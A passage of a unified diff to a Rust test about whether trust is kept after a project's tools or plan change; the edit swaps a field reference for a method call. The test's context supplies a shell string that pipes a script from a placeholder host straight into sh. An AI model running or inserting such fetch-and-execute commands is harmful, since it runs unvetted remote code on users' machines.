@@ -305,7 +305,7 @@ fn the_question_of_trust() {
 #[test]
 fn the_question_of_trust_after_a_change() {
     check("trust-changed", true, |stage| {
-        let facts = Facts::of(&stage.app.engine.plan);
+        let facts = Facts::of(stage.app.engine.plan());
         stage.app.engine.set_trust(false, Some(facts));
         stage.revise("tools", "command -v ssh && curl -s get.example | sh");
         stage.change_plan(|plan| {
